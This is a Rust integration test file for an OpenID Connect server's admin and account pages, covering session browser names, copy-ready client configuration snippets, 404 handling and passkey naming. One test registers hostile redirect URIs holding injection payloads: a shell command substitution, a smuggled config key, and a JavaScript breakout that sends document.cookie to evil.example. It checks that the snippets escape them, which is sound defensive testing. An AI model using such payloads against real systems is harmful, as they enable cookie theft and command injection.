//! Pages that help: the admin client page's copy-ready settings, sessions
//! named "Firefox on Linux", passkeys named after their authenticator, and
//! the HTML error page for unknown paths (JSON under /api/).

use std::sync::Arc;

use latchkey::auth::session::{self, SignInFacts};
use serde_json::{Value, json};

use crate::helpers::passkeys::{answer_registration, authenticator, post_json};
use crate::helpers::{
    Backend, POST_LOGOUT, REDIRECT, TestApp, csrf_of, on_both_backends, register,
    signed_in_browser, spawn_app, spawn_app_on_with, unescape,
};

/// A browser signed in as `userid` whose session was started by `user_agent`.
async fn browser_as(app: &TestApp, userid: &str, user_agent: &str) -> reqwest::Client {
    let (secret, _) = session::start(
        &app.state.repos,
        app.state.clock.as_ref(),
        &app.state.settings,
        SignInFacts {
            userid: userid.to_owned(),
            amr: vec!["pwd".into()],
            acr: "1".into(),
            user_agent: Some(user_agent.into()),
            ip: Some("127.0.0.1".into()),
        },
    )
    .await
    .unwrap();
    let jar = Arc::new(reqwest::cookie::Jar::default());
    let url: reqwest::Url = app.base.parse().unwrap();
    jar.add_cookie_str(&format!("latchkey_session={secret}; Path=/"), &url);
    reqwest::Client::builder()
        .cookie_provider(jar)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

async fn page(browser: &reqwest::Client, url: String) -> String {
    let r = browser.get(url).send().await.unwrap();
    assert_eq!(r.status(), 200);
    r.text().await.unwrap()
}

const FIREFOX_LINUX: &str =
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";
const CHROME_WINDOWS: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const SAFARI_IPHONE: &str = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1";

#[tokio::test]
async fn sessions_read_as_browser_on_system_with_the_raw_string_kept() {
    let app = spawn_app().await;
    let admin = app.create_admin("root").await;
    let user = app.create_user("alice", "correct horse battery").await;
    let me = browser_as(&app, &user.userid, FIREFOX_LINUX).await;
    browser_as(&app, &user.userid, CHROME_WINDOWS).await;
    browser_as(&app, &user.userid, SAFARI_IPHONE).await;
    browser_as(&app, &user.userid, "SomeRobot (+https://example.com/<b>)").await;

    let account = page(&me, app.url("/account")).await;
    for expected in [
        "Firefox on Linux",
        "Chrome on Windows",
        "Safari on iOS",
        "Unknown browser",
    ] {
        assert!(account.contains(expected), "{expected} missing: {account}");
    }
    // The raw string stays available (escaped) as the name's title.
    assert!(!account.contains("<b>)"), "the raw string is escaped");
    let account = unescape(&account);
    assert!(
        account.contains(&format!("title=\"{FIREFOX_LINUX}\">Firefox on Linux<")),
        "{account}"
    );
    assert!(account.contains("title=\"SomeRobot (+https://example.com/<b>)\">Unknown browser<"));

    // The administrator's view of the user reads the same.
    let root = signed_in_browser(&app, &admin).await;
    let admin_page = page(&root, app.url(&format!("/admin/users/{}", user.userid))).await;
    for expected in ["Firefox on Linux", "Chrome on Windows", "Safari on iOS"] {
        assert!(admin_page.contains(expected), "{expected}: {admin_page}");
    }
    assert!(
        unescape(&admin_page).contains(&format!("title=\"{CHROME_WINDOWS}\">Chrome on Windows<"))
    );
}

/// The `<code>` values of the settings list, by their `<dt>` label.
fn setting(html: &str, label: &str) -> String {
    let start = html
        .find(&format!("<dt>{label}</dt>"))
        .unwrap_or_else(|| panic!("no {label}: {html}"));
    let rest = &html[start..];
    let code = &rest[rest.find("<code>").unwrap() + 6..];
    unescape(&code[..code.find("</code>").unwrap()])
}

#[tokio::test]
async fn the_client_page_shows_copy_ready_settings_for_the_integration_guides() {
    let app = spawn_app().await;
    let admin = app.create_admin("root").await;
    let root = signed_in_browser(&app, &admin).await;
    let discovery: Value = reqwest::get(app.url("/.well-known/openid-configuration"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();

    let confidential = register(&app, false, false).await;
    let html = page(
        &root,
        app.url(&format!("/admin/clients/{}", confidential.id)),
    )
    .await;
    assert!(!html.contains("<script"), "no script on the page");
    assert_eq!(
        setting(&html, "Discovery URL"),
        app.url("/.well-known/openid-configuration")
    );
    // Every endpoint is the one discovery advertises.
    for (label, key) in [
        ("Issuer", "issuer"),
        ("Authorization endpoint", "authorization_endpoint"),
        ("Token endpoint", "token_endpoint"),
        ("UserInfo endpoint", "userinfo_endpoint"),
        ("JWKS", "jwks_uri"),
        ("End session (logout)", "end_session_endpoint"),
    ] {
        assert_eq!(setting(&html, label), discovery[key], "{label}");
    }
    assert_eq!(setting(&html, "Client id"), confidential.id);
    assert_eq!(setting(&html, "Redirect URIs"), REDIRECT);
    assert_eq!(
        setting(&html, "Client authentication"),
        "client_secret_basic"
    );
    // Copy-ready blocks for the guides' applications, with this client's values.
    let text = unescape(&html);
    let issuer = discovery["issuer"].as_str().unwrap();
    for expected in [
        "Grafana".to_owned(),
        format!(
            "client_id = {}\nclient_secret = <client_secret>",
            confidential.id
        ),
        format!(
            "auth_url = {issuer}/authorize\ntoken_url = {issuer}/token\napi_url = {issuer}/userinfo"
        ),
        format!(
            "signout_redirect_url = {issuer}/logout?post_logout_redirect_uri={}&client_id={}",
            url::form_urlencoded::byte_serialize(POST_LOGOUT.as_bytes()).collect::<String>(),
            confidential.id
        ),
        "Nextcloud (user_oidc)".to_owned(),
        format!("--clientid='{}'", confidential.id),
        format!("--discoveryuri='{issuer}/.well-known/openid-configuration'"),
        "Forgejo / Gitea".to_owned(),
        format!("--auto-discover-url '{issuer}/.well-known/openid-configuration'"),
        "oauth2-proxy".to_owned(),
        format!(
            "oidc_issuer_url = \"{issuer}\"\nclient_id = \"{}\"",
            confidential.id
        ),
        format!("redirect_url = \"{REDIRECT}\""),
    ] {
        assert!(text.contains(&expected), "{expected:?} missing: {text}");
    }
    assert!(html.contains("<pre><code>"), "selectable blocks");

    // A public client gets the single-page app's settings, no secret.
    let public = register(&app, true, false).await;
    let html = page(&root, app.url(&format!("/admin/clients/{}", public.id))).await;
    let text = unescape(&html);
    assert_eq!(setting(&html, "Client authentication"), "none");
    assert!(
        text.contains(&format!("client_id: \"{}\"", public.id)),
        "{text}"
    );
    assert!(text.contains(&format!("authority: \"{issuer}\"")), "{text}");
    assert!(!text.contains("<client_secret>"), "{text}");
    assert!(!text.contains("[auth.generic_oauth]"));
}

/// The copy-ready blocks of the admin client page, unescaped.
fn snippets(html: &str) -> Vec<String> {
    html.split("<pre><code>")
        .skip(1)
        .map(|rest| unescape(&rest[..rest.find("</code></pre>").unwrap()]))
        .collect()
}

/// Redirect URIs an outsider may register (RFC 7591) that the URL parser
/// takes (it drops newlines) but that end a quoted string in a snippet.
const HOSTILE_REDIRECT: &str =
    "https://app.example/cb?q=x\"\nemail_domains = [\"evil.example\"]\nz=\"$(touch /tmp/p)`id`\\";
const HOSTILE_AFTER_LOGOUT: &str =
    "https://app.example/out?a=\"});fetch(\"https://evil.example/\"+document.cookie);({\"";

async fn a_hostile_redirect_uri_stays_inside_the_snippets_quotes(backend: Backend) {
    let Some(app) = spawn_app_on_with(backend, |s| {
        s.registration = latchkey::config::RegistrationMode::Open;
    })
    .await
    else {
        return;
    };
    let admin = app.create_admin("root").await;
    let root = signed_in_browser(&app, &admin).await;
    let mut ids = Vec::new();
    for auth in ["client_secret_basic", "none"] {
        let r = reqwest::Client::new()
            .post(app.url("/register"))
            .json(&json!({
                "client_name": "Innocent App",
                "redirect_uris": [HOSTILE_REDIRECT],
                "post_logout_redirect_uris": [HOSTILE_AFTER_LOGOUT],
                "token_endpoint_auth_method": auth,
            }))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 201, "{auth}");
        let info: Value = r.json().await.unwrap();
        ids.push(info["client_id"].as_str().unwrap().to_owned());
    }

    // oauth2-proxy's TOML: the URI is one string value, no key is added.
    let html = page(&root, app.url(&format!("/admin/clients/{}", ids[0]))).await;
    let blocks = snippets(&html);
    let cfg = blocks
        .iter()
        .find(|b| b.starts_with("provider = \"oidc\""))
        .unwrap_or_else(|| panic!("no oauth2-proxy block: {blocks:?}"));
    let parsed: toml::Table =
        toml::from_str(cfg).unwrap_or_else(|e| panic!("does not parse: {e}\n{cfg}"));
    assert_eq!(
        parsed["redirect_url"].as_str(),
        Some(HOSTILE_REDIRECT),
        "{cfg}"
    );
    assert_eq!(parsed["client_id"].as_str(), Some(ids[0].as_str()));
    assert_eq!(
        parsed["email_domains"].as_array().unwrap(),
        &vec![toml::Value::from("*")],
        "{cfg}"
    );
    let mut keys: Vec<&str> = parsed.keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        [
            "client_id",
            "client_secret",
            "code_challenge_method",
            "email_domains",
            "oidc_groups_claim",
            "oidc_issuer_url",
            "provider",
            "redirect_url",
            "scope"
        ]
    );
    // Grafana's INI gets the post-logout URI percent-encoded on one line.
    let grafana = blocks
        .iter()
        .find(|b| b.starts_with("[auth.generic_oauth]"))
        .unwrap();
    let signout = grafana
        .lines()
        .find(|l| l.starts_with("signout_redirect_url = "))
        .unwrap();
    let value = signout.strip_prefix("signout_redirect_url = ").unwrap();
    assert!(
        !value.contains([' ', '"', '\'', '(', '$', '`']),
        "{signout}"
    );

    // The single-page app's JavaScript: each value one string literal.
    let html = page(&root, app.url(&format!("/admin/clients/{}", ids[1]))).await;
    let blocks = snippets(&html);
    let spa = blocks
        .iter()
        .find(|b| b.starts_with("const auth = new UserManager({"))
        .unwrap_or_else(|| panic!("no SPA block: {blocks:?}"));
    assert_eq!(spa.lines().count(), 8, "one setting per line: {spa}");
    let literal = |key: &str| -> String {
        let line = spa
            .lines()
            .find_map(|l| l.strip_prefix(&format!("  {key}: ")))
            .unwrap_or_else(|| panic!("no {key}: {spa}"));
        let line = line.strip_suffix(',').unwrap_or(line);
        serde_json::from_str(line)
            .unwrap_or_else(|e| panic!("{key} is not one string ({e}): {spa}"))
    };
    assert_eq!(literal("redirect_uri"), HOSTILE_REDIRECT);
    assert_eq!(literal("post_logout_redirect_uri"), HOSTILE_AFTER_LOGOUT);
    assert_eq!(literal("client_id"), ids[1]);
    assert_eq!(literal("authority"), app.base);
}
on_both_backends!(a_hostile_redirect_uri_stays_inside_the_snippets_quotes);

#[tokio::test]
async fn unknown_paths_get_the_error_page_and_api_paths_json() {
    let app = spawn_app().await;
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let browser_accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";

    for path in ["/no/such/page", "/admin-typo", "/account/nope/deeper"] {
        let r = http
            .get(app.url(path))
            .header("Accept", browser_accept)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 404, "{path}");
        assert!(
            r.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/html")
        );
        assert!(r.headers().contains_key("content-security-policy"));
        let html = r.text().await.unwrap();
        assert!(
            html.contains("<header class=\"top\">"),
            "the layout: {html}"
        );
        assert!(html.contains("Page not found"), "{html}");
        assert!(html.contains("href=\"/account\""), "a way home: {html}");
    }
    // Other methods too; HEAD gets the status without a body.
    let r = http.post(app.url("/no/such/page")).send().await.unwrap();
    assert_eq!(r.status(), 404);
    assert!(r.text().await.unwrap().contains("Page not found"));
    let r = http.head(app.url("/no/such/page")).send().await.unwrap();
    assert_eq!(r.status(), 404);
    assert!(r.text().await.unwrap().is_empty());

    // The admin API and programs asking for JSON get JSON.
    for (path, accept) in [
        ("/api/admin/v1/no-such-thing", browser_accept),
        ("/api/nope", "*/*"),
        ("/no/such/endpoint", "application/json"),
    ] {
        let r = http
            .get(app.url(path))
            .header("Accept", accept)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 404, "{path}");
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["error"], "not_found", "{path}: {body}");
    }
    // A wrong method on a real endpoint is still 405 with Allow.
    let r = http.delete(app.url("/token")).send().await.unwrap();
    assert_eq!(r.status(), 405);
    assert!(r.headers().contains_key("allow"));
    // The start page leads to the account page (and from there to sign-in).
    let r = http.get(app.url("/")).send().await.unwrap();
    assert!(r.status().is_redirection());
    assert_eq!(r.headers()["location"], "/account");
}

/// The soft authenticator's answer with its attestation rewritten to
/// format "none" and the given AAGUID in the authenticator data (the soft
/// token sends zeros and signs its data; "none" carries no signature).
fn with_aaguid(
    mut credential: webauthn_rs_proto::RegisterPublicKeyCredential,
    aaguid: &str,
) -> webauthn_rs_proto::RegisterPublicKeyCredential {
    use serde_cbor_2::Value as Cbor;
    let object: Cbor =
        serde_cbor_2::from_slice(credential.response.attestation_object.as_ref()).unwrap();
    let Cbor::Map(map) = object else {
        panic!("attestation object is a map")
    };
    let mut auth_data = map
        .iter()
        .find_map(|(k, v)| match (k, v) {
            (Cbor::Text(k), Cbor::Bytes(b)) if k == "authData" => Some(b.clone()),
            _ => None,
        })
        .unwrap();
    let id = uuid_bytes(aaguid);
    auth_data[37..53].copy_from_slice(&id);
    let rebuilt = std::collections::BTreeMap::from([
        (Cbor::Text("fmt".into()), Cbor::Text("none".into())),
        (Cbor::Text("attStmt".into()), Cbor::Map(Default::default())),
        (Cbor::Text("authData".into()), Cbor::Bytes(auth_data)),
    ]);
    credential.response.attestation_object =
        serde_cbor_2::to_vec(&Cbor::Map(rebuilt)).unwrap().into();
    credential
}

fn uuid_bytes(text: &str) -> [u8; 16] {
    let hex: String = text.chars().filter(|c| *c != '-').collect();
    let mut out = [0u8; 16];
    for (i, byte) in out.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
    }
    out
}

/// Adds a passkey for `userid` from the account page with the soft
/// authenticator, optionally claiming `aaguid`; returns the stored name.
async fn add_passkey(
    app: &TestApp,
    browser: &reqwest::Client,
    userid: &str,
    aaguid: Option<&str>,
) -> String {
    let before: Vec<String> = app
        .passkeys(userid)
        .await
        .into_iter()
        .map(|p| p.id)
        .collect();
    let csrf = csrf_of(&page(browser, app.url("/account")).await);
    let start: Value = post_json(app, browser, &csrf, "/webauthn/register/start", json!({}))
        .await
        .json()
        .await
        .unwrap();
    let mut auth = authenticator();
    let (credential, _) = answer_registration(&mut auth, &app.base, &start);
    let credential = match aaguid {
        Some(id) => with_aaguid(credential, id),
        None => credential,
    };
    let r = post_json(
        app,
        browser,
        &csrf,
        "/webauthn/register/finish",
        json!({ "ceremony": start["ceremony"], "credential": credential }),
    )
    .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    app.passkeys(userid)
        .await
        .into_iter()
        .find(|p| !before.contains(&p.id))
        .expect("a new passkey")
        .name
}

#[tokio::test]
async fn a_passkey_is_named_after_its_known_authenticator() {
    let app = spawn_app().await;
    let admin = app.create_admin("root").await;
    let user = app.create_user("alice", "correct horse battery").await;
    let browser = browser_as(&app, &user.userid, FIREFOX_LINUX).await;

    // The soft token sends a zero AAGUID: the generic name.
    assert_eq!(
        add_passkey(&app, &browser, &user.userid, None).await,
        "Passkey"
    );
    // iCloud Keychain's AAGUID names the passkey.
    assert_eq!(
        add_passkey(
            &app,
            &browser,
            &user.userid,
            Some("fbfc3007-154e-4ecc-8c0b-6e020557d7bd")
        )
        .await,
        "iCloud Keychain"
    );
    // An AAGUID not in the table: the generic name.
    assert_eq!(
        add_passkey(
            &app,
            &browser,
            &user.userid,
            Some("01234567-89ab-cdef-0123-456789abcdef")
        )
        .await,
        "Passkey"
    );
    let account = page(&browser, app.url("/account")).await;
    assert!(account.contains("<td>iCloud Keychain</td>"), "{account}");
    let root = signed_in_browser(&app, &admin).await;
    let admin_page = page(&root, app.url(&format!("/admin/users/{}", user.userid))).await;
    assert!(admin_page.contains("iCloud Keychain"), "{admin_page}");
    // The summary line counts the passkeys (it printed the list).
    assert!(admin_page.contains("· 3 passkeys ·"), "{admin_page}");
}
